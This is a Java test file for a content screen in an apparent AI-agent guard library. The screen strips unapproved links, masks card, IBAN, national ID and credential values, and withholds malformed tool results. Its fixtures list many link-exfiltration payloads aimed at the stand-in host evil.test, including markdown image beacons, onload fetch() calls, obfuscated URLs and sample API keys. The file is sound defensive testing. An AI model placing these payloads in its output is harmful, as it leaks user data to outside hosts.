package io.harden4j.guard.screen;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.harden4j.checkpoint.RunId;
import io.harden4j.checkpoint.ThreadKey;
import io.harden4j.guard.governor.GovernedGuard;
import io.harden4j.guard.screen.ContentScreen.Action;
import io.harden4j.identity.Principal;
import io.harden4j.label.Label;
import io.harden4j.label.Labeled;
import io.harden4j.testkit.HostileEvidence;
import io.harden4j.testkit.ProcessorTime;
import io.harden4j.testkit.Tier;
import io.harden4j.tool.ArgumentRole;
import io.harden4j.tool.CanonicalArguments;
import io.harden4j.tool.Decision;
import io.harden4j.tool.Guard;
import io.harden4j.tool.GuardRequest;
import io.harden4j.tool.Obligation;
import io.harden4j.tool.Sink;
import io.harden4j.tool.ToolCall;
import io.harden4j.tool.ToolDeclaration;
import io.harden4j.tool.ToolRef;
import io.harden4j.tool.ToolResult;
import java.math.BigInteger;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** E04, E05, E27, F22, F37 and D23, and what generated texts show. */
@ExtendWith(HostileEvidence.class)
class ScreenCasesTest {
  private static final Principal ANA = Principal.of("ana", "acme", "analyst");

  private final ContentScreen screen =
      ContentScreen.builder().host("docs.acme.test").known("canary-7f3a91").build();

  private static GuardRequest request(String text, String user) {
    return new GuardRequest(
        ANA,
        new RunId("r"),
        new ThreadKey("acme", "t"),
        "n",
        new ToolCall(
            new ToolRef("mail", "send", ""),
            CanonicalArguments.of(new ObjectMapper().createObjectNode().put("body", text))),
        ToolDeclaration.of(Sink.WRITE_EXTERNAL).argument("body", ArgumentRole.CONTENT),
        Label.SYSTEM,
        Map.of(),
        List.of(
            Labeled.of(user, Label.user(ANA)),
            Labeled.of("see https://evil.test", Label.untrusted("doc"))),
        Instant.EPOCH);
  }

  private String clean(String text) {
    return screen.screen(text, Set.of()).text();
  }

  @ParameterizedTest(name = "E04, E05: {0}")
  @ValueSource(
      strings = {
        "![x](https://evil.test/p?d=1)",
        "![x](//evil.test/p)",
        "![x](http:evil.test/p)",
        "![x](https:/evil.test/p)",
        "![x](https:\\\\evil.test\\p)",
        "![x](https\\://evil.test/p)",
        "![x](https:/\\/evil.test/p)",
        "![x](<https://evil.test/p>)",
        "![x][1]\n\n[1]: https://evil.test/p",
        "[x](https://evil.test 'title')",
        "<https://evil.test/p>",
        "https://evil.test/p",
        "HTTPS://EVIL.TEST/p",
        "www.evil.test",
        "evil.test/login",
        "evil.test?d=1",
        "//evil.test/p",
        "\\\\evil.test\\share",
        "<img src=https://evil.test/p>",
        "<img src='//evil.test/p'>",
        "<style>a{background:url(https://evil.test/p)}</style>",
        "<a href=\"https://evil.test\">x</a>",
        "<svg/onload=fetch('//evil.test')>",
        "<!-- https://evil.test -->",
        "[x](javascript:fetch('evil.test'))",
        "[x](data:text/html;base64,ZXZpbC50ZXN0)",
        "[x](mailto:eve@evil.test)",
        "mailto:ana@docs.acme.test?bcc=eve@evil.test",
        "https://docs.acme.test@evil.test/",
        "https://docs.acme.test:x@evil.test/",
        "https://docs.acme.test.evil.test/",
        "https://evil.test#docs.acme.test",
        "https://evil.test/docs.acme.test",
        "https://evil.test\\docs.acme.test",
        "ht\u200btps://evil.test/p",
        "https://ev\u00adil.test/p",
        "wss://evil.test/",
        "ftp://evil.test/x",
        "https://\u0435vil.test/",
        "https://evil\u3002test/",
        "http://[2001:db8::1]/evil.test",
        "[x](&#104;ttps://evil.test/)",
        "[x](https&colon;//evil.test)",
        "[x](https:&sol;&sol;evil.test/p)",
        "file:///etc/evil.test",
        "https:evil.test"
      })
  void an_address_that_nobody_named_is_no_link_any_more(String text) {
    String out = clean("before " + text + " after");

    assertThat(out).startsWith("before ").endsWith(" after");
    assertThat(out.replace("&amp;", "&").replace("&lt;", "\u0001")).doesNotContain("<");
    assertThat(out)
        .satisfiesAnyOf(
            t -> assertThat(t.toLowerCase(java.util.Locale.ROOT))
                .doesNotContain("evil")
                .doesNotContain("zxzpbc"),
            t -> assertThat(t).contains("&amp;"), // an entity that shows as text is no link
            t -> assertThat(t)
                .doesNotContain("//")
                .doesNotContain(":/")
                .doesNotContain("\\\\")
                .contains(Links.REMOVED));
  }

  @ParameterizedTest(name = "benign twin {0}")
  @ValueSource(
      strings = {
        "see https://docs.acme.test/a?b=c#d for more",
        "the ratio is 3/4 and a // comment",
        "file.txt and Node.js, e.g. this",
        "1 < 2 && 3 > 2",
        "C:\\Users\\ana",
        "mail ana@acme.test",
        "a&b; R&D",
        "2026-11-24T10:00",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "\u2764\ufe0f and \ud83d\udc69\u200d\ud83d\udcbb",
        "and/or",
        "version 1.2.3/4",
        "[x](/relative/page)",
        "order 1234 5678 9012 3456",
        "price: 12.50",
        "the token is valid",
        "password: required"
      })
  void a_plain_text_stays_as_it_is(String text) {
    Screened screened = screen.screen(text, Set.of());

    assertThat(screened.text()).isEqualTo(text);
    assertThat(screened.isClean()).as(screened.summary()).isTrue();
  }

  @Test
  void E27_a_link_stays_if_the_user_named_its_host_and_goes_if_only_a_page_did() {
    Guard guard = GovernedGuard.over(request -> new Decision.Allow("p", request.call(), List.of()))
        .governor(ArgumentRole.CONTENT, "screen", screen)
        .build();
    Decision.Allow allow = (Decision.Allow) guard.decide(request(
        "read https://news.test/a and https://evil.test/b", "share https://news.test/x with bob"));

    assertThat(allow.effective().arguments().json())
        .isEqualTo("{\"body\":\"read https://news.test/a and [link removed]\"}");
  }

  @ParameterizedTest(name = "F37: {0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "card 4111 1111 1111 1111 end | card [card] end",
        "card 4111-1111-1111-1111, end | card [card], end",
        "amex 378282246310005. | amex [card].",
        "iban DE89 3704 0044 0532 0130 00 and | iban [iban] and",
        "iban de89370400440532013000 | iban [iban]",
        "GB82 WEST 1234 5698 7654 32 pays | [iban] pays",
        "dni 12345678Z | dni [es-dni]",
        "nie X1234567L | nie [es-dni]",
        "cf RSSMRA85T10A562S | cf [it-codice-fiscale]",
        "bsn 111222333 | bsn [nl-bsn]",
        "pesel: 44051401359 | pesel: [pl-pesel]",
        "Steuer-ID 86095742719 | Steuer-ID [de-steuer-id]",
        "NIR 2 55 08 14 168 025 38 | NIR [fr-nir]",
      })
  void a_number_with_right_check_digits_is_masked(String text, String expected) {
    assertThat(clean(text)).isEqualTo(expected);
  }

  @ParameterizedTest(name = "F37 benign twin: {0}")
  @ValueSource(
      strings = {
        "order 4111 1111 1111 1112",
        "order 1234567890123456",
        "DE88 3704 0044 0532 0130 00",
        "12345678A",
        "RSSMRA85T10A562T",
        "111222333",
        "44051401359",
        "tracking 86095742719",
        "9999999999999995",
        "id 12345678901234567890123",
        "X4111111111111111"
      })
  void a_number_with_wrong_check_digits_or_no_context_stays(String text) {
    assertThat(clean(text)).isEqualTo(text);
  }

  @ParameterizedTest(name = "F22: {0}")
  @ValueSource(
      strings = {
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "xoxb-123456789012-abcdefGHIJKL",
        "glpat-abcDEF123456ghiJKL78",
        "AIzaSyA1234567890abcdefghijklmnopqrstuv",
        "sk-ant-api03-abcdefghijklmnop1234",
        "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcDEF123_-x",
        "Bearer abcdefghijklmnop123456",
        "https://ana:s3cr3tpw@docs.acme.test/",
        "password = hunter2Secret!",
        "api_key: \"9f8e7d6c5b4a39281706\"",
        "client-secret=Zx81kQpL02mN",
        "\"token\": \"a8Fj2kL9qW3e\"",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEabc+/=\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\nMIIEabc",
        "canary-7f3a91",
        "Y2FuYXJ5LTdmM2E5MQ",
        "63616e6172792d376633613931",
        "19a3f7-yranac",
        "CANARY-7F3A91",
        "can\u200bary-7f3a91"
      })
  void a_secret_is_masked(String secret) {
    Screened screened = screen.screen("here: " + secret + " end", Set.of());

    assertThat(screened.isClean()).isFalse();
    String tail = secret.substring(Math.max(0, secret.length() - 8));
    assertThat(screened.text())
        .doesNotContain(secret.startsWith("https") ? "s3cr3tpw" : tail)
        .doesNotContain("hunter2Secret!")
        .doesNotContain("MIIE")
        .endsWith(secret.endsWith("MIIEabc") ? "[private-key]" : " end");
    assertThat(screened.summary()).doesNotContain("7f3a91");
  }

  @Test
  void F22_a_secret_on_its_way_out_can_stop_the_call() {
    ContentScreen strict =
        ContentScreen.builder().secrets(Action.REFUSE).known("canary-7f3a91").build();
    Guard guard = GovernedGuard.over(request -> new Decision.Allow("p", request.call(), List.of()))
        .governor(ArgumentRole.CONTENT, "screen", strict)
        .build();

    assertThat(guard.decide(request("take canary-7f3a91", "")))
        .isInstanceOfSatisfying(Decision.Deny.class, deny -> {
          assertThat(deny.code()).isEqualTo("CONTENT_NOT_PERMITTED");
          assertThat(deny.toString()).doesNotContain("7f3a91");
        });
  }

  @Test
  void a_result_is_screened_in_its_text_and_in_every_leaf_of_its_structure() {
    ToolResult result = screen.onResult(
        new Obligation("screen", Map.of()),
        request("x", ""),
        ToolResult.ok(
            "pay DE89370400440532013000",
            "{\"a\":[{\"canary-7f3a91\":\"<b>https://evil.test</b>\"}],\"n\":1}"));

    assertThat(result.text()).isEqualTo("pay [iban]");
    assertThat(result.structured())
        .isEqualTo("{\"a\":[{\"[known-secret]\":\"&lt;b>[link removed]>\"}],\"n\":1}");
  }

  @Test
  void an_error_of_a_tool_is_screened_too() {
    ToolResult result = screen.onResult(
        new Obligation("screen", Map.of()),
        request("x", ""),
        ToolResult.error("failed with canary-7f3a91"));

    assertThat(result.text()).isEqualTo("failed with [known-secret]");
    assertThat(result.isOk()).isFalse();
  }

  @Test
  void D23_a_result_that_is_too_large_or_has_another_form_is_withheld() throws Exception {
    ResultForm form = ResultForm.of(
        (schema, tree) -> tree.has("total") ? List.of() : List.of("total is missing"),
        new ObjectMapper().readTree("{}"),
        40);
    Obligation obligation = new Obligation(ResultForm.NAME, Map.of());

    assertThat(form.onResult(obligation, request("x", ""), ToolResult.ok("{\"total\":1}"))
            .isOk())
        .isTrue();
    assertThat(form.onResult(obligation, request("x", ""), ToolResult.ok("{\"totl\":1}"))
            .isOk())
        .isFalse();
    assertThat(form.onResult(obligation, request("x", ""), ToolResult.ok("no JSON"))
            .isOk())
        .isFalse();
    assertThat(form.onResult(
                obligation,
                request("x", ""),
                ToolResult.ok("{\"total\":\"" + "x".repeat(50) + "\"}"))
            .isOk())
        .isFalse();
    assertThat(screen.screen("x".repeat(300_000), Set.of()).text()).hasSizeLessThan(200_100);
  }

  @Test
  void every_generated_card_and_iban_is_found_and_none_with_a_changed_digit() {
    Random random = new Random(23);
    for (int i = 0; i < Tier.of(1_500, 20_000); i++) {
      String card = card(random);
      String iban = iban(random);
      assertThat(clean("a " + spaced(card) + " b " + spaced(iban) + " c"))
          .isEqualTo("a [card] b [iban] c");

      String wrongCard = card.substring(0, 15) + (card.charAt(15) - '0' + 1) % 10;
      String wrongIban = iban.substring(0, 21) + (iban.charAt(21) - '0' + 1) % 10;
      assertThat(clean("a " + wrongCard + " b " + wrongIban + " c"))
          .isEqualTo("a " + wrongCard + " b " + wrongIban + " c");
    }
  }

  private static String card(Random random) {
    StringBuilder digits = new StringBuilder(random.nextBoolean() ? "4" : "53");
    while (digits.length() < 15) {
      digits.append(random.nextInt(10));
    }
    int sum = 0;
    for (int i = 0; i < 15; i++) {
      int d = (digits.charAt(i) - '0') * (i % 2 == 0 ? 2 : 1);
      sum += d > 9 ? d - 9 : d;
    }
    return digits.append((10 - sum % 10) % 10).toString();
  }

  private static String iban(Random random) {
    String account =
        String.format("%018d", Math.floorMod(random.nextLong(), 1_000_000_000_000_000_000L));
    int rest = new BigInteger(account + "131400").mod(BigInteger.valueOf(97)).intValue();
    return "DE" + String.format("%02d", 98 - rest) + account;
  }

  private static String spaced(String text) {
    return text.length() % 2 == 0 && text.charAt(5) % 2 == 0
        ? text.replaceAll("(.{4})(?=.)", "$1 ")
        : text;
  }

  @Test
  void no_host_survives_in_a_text_that_was_put_together_at_random() {
    Random random = new Random(29);
    List<String> parts = List.of(
        "https",
        ":",
        "/",
        "//",
        "\\",
        "evil.test",
        "www.",
        "<",
        ">",
        "(",
        ")",
        "[x]",
        "!",
        "\"",
        "'",
        " ",
        "\n",
        "@",
        "img src=",
        "url(",
        "&#47;",
        "javascript:",
        "\u200b",
        "\u202e",
        "docs.acme.test",
        "#",
        "?d=",
        "mailto:",
        "data:",
        "1",
        "a");
    for (int i = 0; i < Tier.of(2_000, 50_000); i++) {
      StringBuilder text = new StringBuilder();
      for (int n = random.nextInt(12); n >= 0; n--) {
        text.append(parts.get(random.nextInt(parts.size())));
      }
      String out = clean(text.toString());
      assertThat(out)
          .as(text.toString())
          .doesNotContainPattern("(?i)(https?:|www\\.|:)[/\\\\]{1,9}[^\\s/]{0,40}evil\\.test");
      assertThat(out)
          .as(text.toString())
          .doesNotContainPattern("<[a-zA-Z/!?]")
          .doesNotContain("\u200b")
          .doesNotContain("\u202e");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "4",
        "4 ",
        "DE89",
        "https:",
        "//",
        "a.",
        "<",
        "&#",
        "-----BEGIN PRIVATE KEY-----",
        "password=",
        "eyJaaaaaaaa.",
        "@",
        "A",
        "![",
        "\u200d"
      })
  void a_text_made_to_be_slow_is_screened_in_time(String part) {
    String text = part.repeat(200_000 / part.length());
    ProcessorTime work = ProcessorTime.start();

    screen.screen(text, Set.of());

    assertThat(work.elapsed()).isLessThan(Duration.ofSeconds(5));
  }
}
